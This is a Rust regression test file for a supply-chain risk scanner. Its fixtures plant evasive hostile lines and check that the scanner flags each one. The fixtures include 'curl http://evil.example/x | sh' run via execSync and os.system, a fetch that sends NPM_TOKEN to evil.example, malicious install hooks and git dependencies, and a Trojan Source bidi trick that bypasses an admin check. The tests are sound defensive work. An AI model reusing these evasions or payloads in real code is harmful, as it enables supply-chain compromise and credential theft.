//! Regression tests for ways a reviewer found to slip a change past the risk scan, or to
//! break it. Each test names the evasion it guards against.

use chainlock_review::{scan_change, Flag, Rule, Severity};

fn scan(path: &str, old: Option<&str>, new: &str) -> Vec<Flag> {
    scan_change(path, old.map(str::as_bytes), Some(new.as_bytes()))
}

fn scan_bytes(path: &str, old: &[u8], new: &[u8]) -> Vec<Flag> {
    scan_change(path, Some(old), Some(new))
}

fn has(flags: &[Flag], rule: Rule, line: u32) -> bool {
    flags.iter().any(|f| f.rule == rule && f.line == Some(line))
}

const CURL_SH: &str = "require(\"child_process\").execSync(\"curl http://evil.example/x | sh\");";

#[test]
fn empty_block_comment_before_code_does_not_hide_it() {
    let flags = scan(
        "index.js",
        Some("module.exports = 1;\n"),
        &format!("module.exports = 1;\n/**/ {CURL_SH}\n"),
    );
    assert!(has(&flags, Rule::ProcessSpawn, 2), "{flags:?}");
    assert!(has(&flags, Rule::NetworkAccess, 2), "{flags:?}");
    // A line inside a block comment is prose (the file is lexed from its start), but a `/*`
    // inside a template literal opens no comment: the code after the literal is scanned.
    let flags = scan("a.js", None, "/*\n * eval(atob(x))\n */\n");
    assert!(!has(&flags, Rule::DynamicEval, 2), "{flags:?}");
    let flags = scan("a.js", None, "const s = `\n/*\n`; eval(atob(x))\n*/\n");
    assert!(has(&flags, Rule::DynamicEval, 3), "{flags:?}");
    // Benign: whole-line comments stay quiet.
    assert!(scan(
        "a.js",
        None,
        "// fetch( nothing\n/* fetch( nothing */\n  /** eval( never */\n"
    )
    .is_empty());
}

#[test]
fn js_private_field_is_not_a_hash_comment() {
    let flags = scan(
        "priv.js",
        Some("class A {\n}\n"),
        &format!("class A {{\n  #p = {CURL_SH}\n}}\nnew A();\n"),
    );
    assert!(has(&flags, Rule::ProcessSpawn, 2), "{flags:?}");
    // C preprocessor lines and Rust attributes are code as well.
    let flags = scan(
        "x.c",
        None,
        "#define RUN system(\"curl http://e.example | sh\")\n",
    );
    assert!(has(&flags, Rule::NetworkAccess, 1), "{flags:?}");
    // Benign: `#` is a comment in Python and shell.
    assert!(scan("a.py", None, "# os.system('curl x | sh')\n").is_empty());
    assert!(scan("a.sh", None, "  # curl https://x.example | sh\n").is_empty());
}

#[test]
fn comment_line_with_js_line_separator_is_scanned() {
    let flags = scan("a.js", None, &format!("// note\u{2028}{CURL_SH}\n"));
    assert!(has(&flags, Rule::ProcessSpawn, 1), "{flags:?}");
}

#[test]
fn script_without_extension_is_scanned_by_its_shebang() {
    let cli = format!(
        "#!/usr/bin/env node\n{CURL_SH}\nconst t = process.env.NPM_TOKEN; fetch(\"http://evil.example/?t=\" + t);\n"
    );
    let flags = scan("bin/cli", None, &cli);
    assert!(has(&flags, Rule::ProcessSpawn, 2), "{flags:?}");
    assert!(has(&flags, Rule::NetworkAccess, 3), "{flags:?}");
    assert!(has(&flags, Rule::EnvCredentials, 3), "{flags:?}");
    // The interpreter picks the comment syntax: `#` is code in node, a comment in Python.
    let flags = scan(
        "bin/tool",
        None,
        "#!/usr/bin/python3\n# os.system('x')\nexec(blob)\n",
    );
    assert!(
        has(&flags, Rule::DynamicEval, 3) && !has(&flags, Rule::ProcessSpawn, 2),
        "{flags:?}"
    );
    let flags = scan(
        "bin/run",
        None,
        "#!/bin/sh -e\ncurl -s https://evil.example | sh\n",
    );
    assert!(has(&flags, Rule::NetworkAccess, 2), "{flags:?}");
    // Benign: an extensionless text file without `#!` is not code.
    assert!(scan(
        "INSTALL",
        None,
        "curl https://example.com/install.sh | sh\n"
    )
    .is_empty());
    // The same file marked executable (mode 100755) is a script, `#!` or not.
    let flags = chainlock_review::scan_file_change(
        "INSTALL",
        true,
        None,
        Some(b"curl https://example.com/install.sh | sh\n"),
    );
    assert!(has(&flags, Rule::NetworkAccess, 1), "{flags:?}");
}

#[test]
fn nul_byte_does_not_make_code_binary() {
    let old = b"module.exports = 1;\n// x\n";
    let new = format!("module.exports = 1;\n// x\0y\n{CURL_SH}\n");
    let flags = scan_bytes("util.js", old, new.as_bytes());
    assert!(has(&flags, Rule::ProcessSpawn, 3), "{flags:?}");
    let binary = flags
        .iter()
        .find(|f| f.rule == Rule::BinaryFile)
        .expect("binary-looking code is flagged");
    assert_eq!(binary.severity, Severity::High, "{flags:?}");
}

#[test]
fn latin1_python_source_is_scanned() {
    let old = b"# -*- coding: latin-1 -*-\nx = 1\n";
    let new = b"# -*- coding: latin-1 -*-\n# caf\xe9\nx = 1\nimport os; os.system(\"curl http://evil.example/x | sh\")\n";
    let flags = scan_bytes("lat.py", old, new);
    assert!(has(&flags, Rule::ProcessSpawn, 4), "{flags:?}");
    assert!(has(&flags, Rule::NetworkAccess, 4), "{flags:?}");
    // Benign neighbour: a binary data file is still only a medium binary flag.
    let flags = scan_bytes("data/blob.bin", b"a\n", b"\xe9\0os.system(\n");
    assert!(
        flags.len() == 1 && flags[0].severity == Severity::Medium,
        "{flags:?}"
    );
}

#[test]
fn lone_carriage_return_does_not_drop_an_added_line() {
    let old = "a = 1\r# c\r\nb = 2\n";
    let new = "a = 1\r# c\r\nb = 2\nimport os; os.system(\"curl http://evil.example/x | sh\")\n";
    let flags = scan("cr.py", Some(old), new);
    // `similar` (and so `chainlock diff show`) breaks lines at the lone `\r`: line 4.
    assert!(has(&flags, Rule::ProcessSpawn, 4), "{flags:?}");
    // A new file is numbered the same way.
    let flags = scan("cr.py", None, new);
    assert!(has(&flags, Rule::ProcessSpawn, 4), "{flags:?}");
}

fn flag_of(flags: &[Flag], rule: Rule) -> &Flag {
    flags
        .iter()
        .find(|f| f.rule == rule)
        .unwrap_or_else(|| panic!("no {rule} flag in {flags:?}"))
}

#[test]
fn package_json_with_bom_is_still_read() {
    let old = "{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\"\n}\n";
    let new = "\u{feff}{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\"postinstall\": \"node setup-hook.js\"},\n  \"dependencies\": {\"evil-pkg\": \"git+https://evil.example/e.git\"}\n}\n";
    let flags = scan("package.json", Some(old), new);
    let hook = flag_of(&flags, Rule::InstallHook);
    assert_eq!((hook.severity, hook.line), (Severity::High, Some(4)));
    let dep = flag_of(&flags, Rule::DependencyChange);
    assert_eq!((dep.severity, dep.line), (Severity::High, Some(5)));
    // The same for TOML and INI manifests.
    let flags = scan(
        "Cargo.toml",
        Some("[package]\nname = \"x\"\n"),
        "\u{feff}[package]\nname = \"x\"\n[dependencies]\nevil = \"1\"\n",
    );
    assert!(has(&flags, Rule::DependencyChange, 4), "{flags:?}");
    let flags = scan(
        "setup.cfg",
        Some("[options]\n"),
        "\u{feff}[options]\ninstall_requires =\n    evil\n",
    );
    assert!(has(&flags, Rule::DependencyChange, 3), "{flags:?}");
}

#[test]
fn unparsable_manifest_is_flagged_not_skipped() {
    let cases: [(&str, &str, Option<u32>); 6] = [
        // serde_json refuses a lone surrogate that JSON.parse (and so npm) accepts.
        (
            "package.json",
            "{\n  \"description\": \"\\ud800\",\n  \"scripts\": {\"install\": \"node x.js\"}\n}\n",
            Some(2),
        ),
        (
            "package.json",
            "{\"scripts\": {\"install\": \"x\"},}\n",
            Some(1),
        ),
        (
            "Cargo.toml",
            "[package]\nname = \"x\"\n[dependencies\nevil = \"1\"\n",
            Some(3),
        ),
        (
            "pyproject.toml",
            "[project]\ndependencies = [\n  \"evil\n]\n",
            Some(3),
        ),
        (
            "pyproject.toml",
            "[project]\ndependencies = [\n  \"evil\",\n",
            Some(2),
        ),
        (
            "setup.cfg",
            "[options]\ninstall_requires\n    evil\n",
            Some(2),
        ),
    ];
    for (path, new, line) in cases {
        let flags = scan(path, Some(""), new);
        let flag = flags
            .iter()
            .find(|f| f.rule == Rule::UnparsedManifest)
            .unwrap_or_else(|| panic!("{path} {new:?}: {flags:?}"));
        assert_eq!(
            (flag.severity, flag.line),
            (Severity::High, line),
            "{new:?}"
        );
        assert!(flag.message.contains("not checked"), "{}", flag.message);
    }
    // Benign: TOML the line reader must not mistake for broken (a multi-line string holding
    // a header and a key, a quoted dotted key, an array of tables).
    let fine = "[project]\nname = \"x\"\ndescription = \"\"\"\n[dependencies]\nevil = 1\n\"\"\"\n\"a.b\" = 'c' # note\n\n[[tool.x.y]]\nz = [\n  1, # one\n  2,\n]\n";
    assert!(scan("pyproject.toml", Some(""), fine).is_empty());
}

/// (manifest, old, new, line of the dependency, severity): every form a dependency table
/// takes in Cargo.toml and pyproject.toml.
const TOML_FORMS: &[(&str, &str, &str, u32, Severity)] = &[
    (
        "Cargo.toml",
        CARGO,
        "[build-dependencies.evil-build]\ngit = \"https://evil.example/evil-build\"\n",
        9,
        Severity::High,
    ),
    (
        "Cargo.toml",
        CARGO,
        "[dev-dependencies.evil-dev]\nversion = \"1\"\n",
        9,
        Severity::Low,
    ),
    (
        "Cargo.toml",
        CARGO,
        "[target.'cfg(target_os = \"linux\")'.build-dependencies.evil]\nversion = \"1\"\n",
        9,
        Severity::Medium,
    ),
    (
        "Cargo.toml",
        CARGO,
        "[target.x86_64-unknown-linux-gnu.dependencies]\nevil = \"1\"\n",
        9,
        Severity::Medium,
    ),
    (
        "Cargo.toml",
        CARGO,
        "[workspace.dependencies]\nevil = \"1\"\n",
        9,
        Severity::Medium,
    ),
    (
        "Cargo.toml",
        CARGO,
        "[patch.crates-io]\nserde = { git = \"https://evil.example/serde\" }\n",
        9,
        Severity::High,
    ),
    (
        "Cargo.toml",
        CARGO,
        "[dependencies.serde]\nregistry = \"evil\"\n",
        9,
        Severity::High,
    ),
    (
        "pyproject.toml",
        PYPROJECT,
        "[tool.uv]\ndev-dependencies = [\"evil-dev\"]\n",
        9,
        Severity::Low,
    ),
    (
        "pyproject.toml",
        PYPROJECT,
        "[tool.uv.sources]\nrequests = { git = \"https://evil.example/requests\" }\n",
        9,
        Severity::High,
    ),
    (
        "pyproject.toml",
        PYPROJECT,
        "[tool.uv]\nindex-url = \"https://evil.example/simple\"\n",
        9,
        Severity::High,
    ),
    (
        "pyproject.toml",
        PYPROJECT,
        "[dependency-groups]\nlint = [\"evil\"]\n",
        9,
        // PEP 735 groups are development-only: installers never fetch them for users.
        Severity::Low,
    ),
    (
        "pyproject.toml",
        PYPROJECT,
        "[project.optional-dependencies]\nextra = [\n  \"evil>=1\",\n]\n",
        10,
        Severity::Medium,
    ),
    (
        "pyproject.toml",
        PYPROJECT,
        "[tool.poetry.dependencies]\nevil = \"^1\"\n",
        9,
        Severity::Medium,
    ),
    (
        "pyproject.toml",
        PYPROJECT,
        "[tool.poetry.group.docs.dependencies]\nevil = \"^1\"\n",
        9,
        Severity::Medium,
    ),
    // An escape in a quoted key spells `dependencies` all the same.
    (
        "pyproject.toml",
        PYPROJECT,
        "[tool.poetry.\"depend\\u0065ncies\"]\nevil = \"1\"\n",
        9,
        Severity::Medium,
    ),
];

const CARGO: &str =
    "[package]\nname = \"x\"\nversion = \"1.0.0\"\n\n[dependencies]\nserde = \"1\"\n";
const PYPROJECT: &str = "[project]\nname = \"x\"\nversion = \"1.0.0\"\n\n[tool.x]\na = 1\n";

#[test]
fn every_toml_dependency_table_form_is_read() {
    for &(path, old, added, line, severity) in TOML_FORMS {
        let new = format!("{old}\n{added}");
        let flags = scan(path, Some(old), &new);
        let flag = flags
            .iter()
            .find(|f| f.rule == Rule::DependencyChange)
            .unwrap_or_else(|| panic!("{added:?} not flagged: {flags:?}"));
        assert_eq!(
            (flag.line, flag.severity),
            (Some(line), severity),
            "{added:?}: {flags:?}"
        );
    }
    // Top-level dotted keys and inline tables, in front of the first table.
    for added in [
        "dependencies.evil = { git = \"https://evil.example/e\" }\n",
        "dependencies = { evil = { git = \"https://evil.example/e\" } }\n",
        "dependencies.evil.git = \"https://evil.example/e\"\n",
    ] {
        let old = "[package]\nname = \"x\"\n";
        let flags = scan("Cargo.toml", Some(old), &format!("{added}{old}"));
        assert!(
            flags.iter().any(|f| f.rule == Rule::DependencyChange
                && f.line == Some(1)
                && f.severity == Severity::High),
            "{added:?}: {flags:?}"
        );
    }
    // A dotted key inside the table, and a multi-line inline table keep each entry's line.
    let flags = scan(
        "Cargo.toml",
        Some(CARGO),
        &format!("{CARGO}evil.git = \"https://evil.example/e\"\n"),
    );
    assert!(has(&flags, Rule::DependencyChange, 7), "{flags:?}");
    let flags = scan(
        "Cargo.toml",
        Some("[package]\nname = \"x\"\n"),
        "dependencies = {\n  serde = \"1\",\n  evil = \"2\"\n}\n[package]\nname = \"x\"\n",
    );
    assert!(
        has(&flags, Rule::DependencyChange, 2) && has(&flags, Rule::DependencyChange, 3),
        "{flags:?}"
    );
    // Benign: tables that are not about dependencies, and moving a dependency from a table
    // to an inline table.
    let benign = format!("{CARGO}\n[package.metadata.docs.rs]\nall-features = true\n\n[features]\ndefault = [\"serde\"]\n");
    assert!(scan("Cargo.toml", Some(CARGO), &benign).is_empty());
    let moved = "dependencies = { serde = \"1\" }\n[package]\nname = \"x\"\nversion = \"1.0.0\"\n";
    assert!(scan("Cargo.toml", Some(CARGO), moved).is_empty());
}

#[test]
fn npm_hook_line_is_the_key_inside_scripts() {
    let old = "{\n  \"name\": \"x\",\n  \"keywords\": [\"install\"],\n  \"scripts\": {}\n}\n";
    let new = "{\n  \"name\": \"x\",\n  \"keywords\": [\"install\"],\n  \"scripts\": {\n    \"install\": \"node evil.js\"\n  }\n}\n";
    let flags = scan("package.json", Some(old), new);
    assert_eq!(
        flag_of(&flags, Rule::InstallHook).line,
        Some(5),
        "{flags:?}"
    );
    // The last of two `install` keys is the one npm runs, and the one pointed at.
    let twice = "{\n  \"scripts\": {\n    \"install\": \"true\",\n    \"install\": \"node evil.js\"\n  }\n}\n";
    let flags = scan("package.json", Some("{}"), twice);
    let hook = flag_of(&flags, Rule::InstallHook);
    assert!(
        hook.line == Some(4) && hook.message.contains("evil.js"),
        "{flags:?}"
    );
}

#[test]
fn twenty_thousand_npm_dependencies_are_read_in_one_pass() {
    const N: usize = 20_000;
    let deps = |skip: Option<usize>| -> String {
        let mut body: Vec<String> = (0..N)
            .filter(|&i| Some(i) != skip)
            .map(|i| format!("    \"dep-{i}\": \"^1.0.{i}\""))
            .collect();
        // A dist-tag value naming a later dependency must not be taken for its key.
        body.insert(0, "    \"alias\": \"next\"".to_owned());
        body.push("    \"next\": \"14.0.0\"".to_owned());
        format!(
            "{{\n  \"name\": \"big\",\n  \"dependencies\": {{\n{}\n  }}\n}}\n",
            body.join(",\n")
        )
    };
    let old = deps(Some(12_345));
    let new = deps(None);
    // `dep-12345` is on line 4 (header) + 1 (alias) + 12345.
    let flags = scan("package.json", Some(&old), &new);
    assert_eq!(flags.len(), 1, "{flags:?}");
    assert!(
        flags[0].line == Some(4 + 1 + 12_345) && flags[0].message.contains("dep-12345"),
        "{flags:?}"
    );
    // A new file: every dependency flagged at its own line.
    let flags = scan("package.json", None, &new);
    assert_eq!(flags.len(), N + 2);
    let next = flags
        .iter()
        .find(|f| f.message.contains("dependencies.next "))
        .expect("next");
    assert_eq!(next.line, Some(4 + 1 + N as u32), "{next:?}");
}

#[test]
fn bidi_and_invisible_characters_are_flagged() {
    // The Trojan Source "early return": a RLO/LRI pair makes the check read as a comment.
    let trojan = "function isAdmin(user) {\n  /*\u{202E} } \u{2066}if (user.role != 'admin')\u{2069} \u{2066} begin admins only */\n  return true;\n}\n";
    let flags = scan("auth.js", Some("function isAdmin(user) {\n}\n"), trojan);
    let flag = flags
        .iter()
        .find(|f| f.rule == Rule::HiddenUnicode)
        .unwrap_or_else(|| panic!("{flags:?}"));
    assert_eq!((flag.severity, flag.line), (Severity::High, Some(2)));
    assert!(flag.message.contains("U+202E"), "{}", flag.message);
    // The report itself must not carry the control characters it warns about.
    assert!(!flag.message.contains('\u{202E}'), "{}", flag.message);
    assert!(!flag.to_string().contains('\u{2066}'), "{flag}");
    // Zero-width characters, a BOM inside the file, tag characters, a Hangul filler name.
    for (i, line) in [
        "const admin\u{200B} = false;",
        "x = 1\u{FEFF}",
        "s = 'hi\u{E0041}\u{E0042}'",
        "const \u{3164} = require('fs');",
    ]
    .into_iter()
    .enumerate()
    {
        let flags = scan("a.py", None, &format!("{line}\n"));
        assert!(has(&flags, Rule::HiddenUnicode, 1), "case {i}: {flags:?}");
    }
    // Benign: a BOM that opens the file, accents, and an emoji with its variation selector.
    assert!(scan("a.js", None, "\u{FEFF}const s = 'café ❤\u{FE0F}';\n").is_empty());
}

/// The reviewer's whole range, rebuilt as a real repository and read through chainlock-diff
/// the way `chainlock diff risk` reads it: every planted change is flagged.
#[test]
fn reviewer_range_is_flagged_end_to_end() {
    let repo = crate::util::Repo::new();
    repo.write("index.js", "module.exports = 1;\n");
    repo.write("priv.js", "class A {\n}\n");
    repo.write("util.js", "module.exports = 2;\n// x\n");
    repo.write("lat.py", b"# -*- coding: latin-1 -*-\nx = 1\n");
    repo.write("cr.py", "a = 1\r# c\r\nb = 2\n");
    repo.write(
        "package.json",
        "{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\"\n}\n",
    );
    repo.write("Cargo.toml", CARGO);
    repo.commit("one");
    repo.git(&["tag", "v1"]);
    repo.write("index.js", format!("module.exports = 1;\n/**/ {CURL_SH}\n"));
    repo.write(
        "priv.js",
        format!("class A {{\n  #p = {CURL_SH}\n}}\nnew A();\n"),
    );
    repo.write(
        "util.js",
        format!("module.exports = 2;\n// x\0\n{CURL_SH}\n"),
    );
    repo.write(
        "lat.py",
        b"# -*- coding: latin-1 -*-\n# caf\xe9\nx = 1\nimport os; os.system(\"curl http://evil.example/x | sh\")\n",
    );
    repo.write(
        "cr.py",
        "a = 1\r# c\r\nb = 2\nimport os; os.system(\"curl http://evil.example/x | sh\")\n",
    );
    repo.write("bin/cli", format!("#!/usr/bin/env node\n{CURL_SH}\n"));
    repo.write(
        "package.json",
        "\u{feff}{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\"postinstall\": \"node setup-hook.js\"},\n  \"dependencies\": {\"evil-pkg\": \"git+https://evil.example/e.git\"}\n}\n",
    );
    repo.write(
        "Cargo.toml",
        format!(
            "{CARGO}\n[build-dependencies.evil-build]\ngit = \"https://evil.example/evil-build\"\n"
        ),
    );
    repo.commit("two");
    repo.git(&["tag", "v2"]);

    let mut flags = Vec::new();
    chainlock_diff::for_each_change(repo.path(), Some("v1"), "v2", |change| {
        let path = String::from_utf8_lossy(change.path);
        flags.extend(scan_change(&path, change.old, change.new));
        Ok::<(), chainlock_diff::Error>(())
    })
    .expect("range");
    let flagged = |file: &str, rule: Rule, line: u32| {
        assert!(
            flags
                .iter()
                .any(|f| f.file == file && f.rule == rule && f.line == Some(line)),
            "{file}:{line} {rule} missing from {flags:#?}"
        );
    };
    flagged("index.js", Rule::ProcessSpawn, 2);
    flagged("priv.js", Rule::ProcessSpawn, 2);
    flagged("util.js", Rule::ProcessSpawn, 3);
    flagged("lat.py", Rule::ProcessSpawn, 4);
    flagged("cr.py", Rule::ProcessSpawn, 4);
    flagged("bin/cli", Rule::ProcessSpawn, 2);
    flagged("package.json", Rule::InstallHook, 4);
    flagged("package.json", Rule::DependencyChange, 5);
    flagged("Cargo.toml", Rule::DependencyChange, 9);
}
